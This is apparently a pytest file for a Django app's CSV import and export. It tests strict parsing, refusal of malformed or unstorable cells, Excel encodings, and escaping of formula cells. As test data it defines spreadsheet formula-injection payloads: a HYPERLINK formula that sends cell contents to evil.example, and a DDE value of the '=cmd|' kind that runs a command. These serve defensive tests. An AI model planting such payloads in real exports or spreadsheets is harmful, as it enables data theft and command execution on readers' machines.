"""CSV that loses nothing and cannot attack its reader: strict parsing, refused bad cells,
Excel's encodings, formula escaping on export and an export that imports back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import strategies as st

from studysmart.csvsafe import escape_cell, unescape_cell
from tasks.bank_csv import (
    CsvFileError,
    decode_upload,
    do_import_tasks_csv,
    do_import_topics_csv,
    write_tasks_csv,
    write_topics_csv,
)
from tasks.models import PracticeTask, Task, Topic

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.django_db
def test_it_escapes_formula_cells_and_round_trips_the_export() -> None:
    topic = Topic.objects.create(slug="t", name=INJECTION, description="+1 and\nmore")
    Task.objects.create(
        topic=topic,
        slug="t-1",
        title="@SUM(A1:A9)",
        difficulty="easy",
        statement="-2 + 3?",
        answer_kind="numeric",
        numeric_answer=-1.5,
        unit="\tm",
        concept="'=already quoted",
        source="imp",
        external_id="=cmd|' /C calc'!A0",
    )
    out = io.StringIO()
    write_topics_csv(topics=Topic.objects.all(), out=out)
    write_tasks_csv(tasks=Task.objects.select_related("topic"), out=(tasks_out := io.StringIO()))
    for text in (out.getvalue(), tasks_out.getvalue()):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                # No text cell starts as a formula; the numeric answer stays a number.
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or cell == "-1.5", cell
    before = list(Task.objects.values())
    topics_before = list(Topic.objects.values())
    assert str(do_import_topics_csv(text=out.getvalue())) == "0 created, 0 updated, 1 unchanged"
    assert str(do_import_tasks_csv(text=tasks_out.getvalue())).endswith("1 unchanged")
    assert list(Task.objects.values()) == before
    assert list(Topic.objects.values()) == topics_before


@given(st.text(max_size=20))
def test_it_unescapes_exactly_what_it_escaped(text: str) -> None:
    assert unescape_cell(escape_cell(text)) == text
    assert not escape_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.django_db
def test_it_refuses_a_stray_quote_that_would_swallow_a_row() -> None:
    text = 'slug,name,description\na,A,"starts here\nb,B,ends here"\nc,C,fine\n'
    with pytest.raises(CsvFileError) as caught:
        do_import_topics_csv(text=text)
    assert not Topic.objects.exists()
    assert any("line" in e for e in caught.value.errors)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "text",
    [
        'slug,name\na,"Unterminated\n',
        'slug,name\na,"Closed" too early\n',
        "slug,name\na,A,extra\n",
        'slug,name\n"a\nb",Split slug\n',
    ],
)
def test_it_refuses_malformed_rows_naming_the_line(text: str) -> None:
    with pytest.raises(CsvFileError) as caught:
        do_import_topics_csv(text=text)
    assert not Topic.objects.exists()
    assert all("line" in e for e in caught.value.errors), caught.value.errors


@pytest.mark.django_db
@pytest.mark.parametrize("bad", ["a\x00b", "\ud800"])
def test_it_refuses_unstorable_cells_naming_line_and_column(bad: str) -> None:
    with pytest.raises(CsvFileError) as caught:
        do_import_topics_csv(text=f"slug,name\nok,{bad}\n")
    assert caught.value.errors == [
        "line 2, column 'name': contains a character that cannot be stored "
        "(a NUL or an unpaired surrogate)"
    ]
    assert not Topic.objects.exists()


@pytest.mark.django_db
def test_it_refuses_a_lone_surrogate_spelled_in_an_options_json() -> None:
    Topic.objects.create(slug="t", name="T")
    text = (
        "slug,topic,title,difficulty,answer_kind,statement,options,correct_option\n"
        't-1,t,T,easy,choice,Pick,"[{""id"": ""a"", ""text"": ""\\ud800""},'
        '{""id"": ""b"", ""text"": ""ok""}]",a\n'
    )
    with pytest.raises(CsvFileError) as caught:
        do_import_tasks_csv(text=text)
    assert "options" in caught.value.errors[0] and "cannot be stored" in caught.value.errors[0]
    assert not Task.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "data",
    [
        "\ufeffslug,name\nx,X\n".encode(),  # Excel's "CSV UTF-8"
        b"slug;name\nx;X\n",  # Excel with a ";" list separator
        "slug\tname\nx\tX\n".encode("utf-16"),  # Excel's "Unicode text"
    ],
)
def test_it_reads_the_files_excel_saves(data: bytes) -> None:
    assert str(do_import_topics_csv(text=decode_upload(data))).startswith("1 created")
    assert Topic.objects.get().name == "X"


def test_it_says_how_to_save_a_file_it_cannot_read() -> None:
    with pytest.raises(CsvFileError) as caught:
        decode_upload("slug,name\nx,Ünïcode\n".encode("cp1252"))
    assert "CSV UTF-8" in caught.value.errors[0]


def write_attempts(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["user_id", "item_id", "skill_id", "correct"])
        writer.writerows(rows)
    return path


@pytest.mark.django_db
@pytest.mark.parametrize(("bad", "says"), [("s\x001", "line 2"), ("s\ud8001", "not a UTF-8")])
def test_it_refuses_attempt_ids_that_cannot_be_stored(tmp_path: Path, bad: str, says: str) -> None:
    path = tmp_path / "a.csv"
    text = f"user_id,item_id,skill_id,correct\n{bad},i1,k,1\ns2,i1,k,0\n"
    # A UTF-8 file cannot hold a lone surrogate: its bytes make the file invalid UTF-8.
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    with pytest.raises(CommandError, match=says):
        call_command("import_attempts", str(path), stdout=io.StringIO())
    assert not PracticeTask.objects.exists()


@pytest.mark.django_db
def test_it_refuses_an_attempts_file_with_a_quote_across_rows(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text('user_id,item_id,skill_id,correct\ns1,"i1,k,1\ns2,i2",k,0\ns3,i3,k,1\n')
    with pytest.raises(CommandError, match="line break"):
        call_command("import_attempts", str(path), stdout=io.StringIO())
    assert not PracticeTask.objects.exists()


@pytest.mark.django_db
def test_it_strips_the_export_apostrophe_from_imported_ids(tmp_path: Path) -> None:
    path = write_attempts(tmp_path / "x.csv", [["'=u1", "'-i1", "k", "1"]])
    call_command("import_attempts", str(path), stdout=io.StringIO())
    task = Task.objects.get(source="x")
    assert task.external_id == "-i1"
